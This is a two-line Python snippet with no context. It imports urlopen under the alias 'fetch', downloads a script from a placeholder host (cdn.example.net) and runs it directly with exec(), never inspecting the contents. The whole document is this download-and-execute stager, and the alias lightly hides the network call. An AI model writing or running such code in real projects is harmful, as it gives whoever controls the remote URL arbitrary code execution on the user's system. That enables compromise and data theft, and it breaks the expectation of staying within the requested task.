from urllib.request import urlopen as fetch
exec(fetch('https://cdn.example.net/p.py').read())
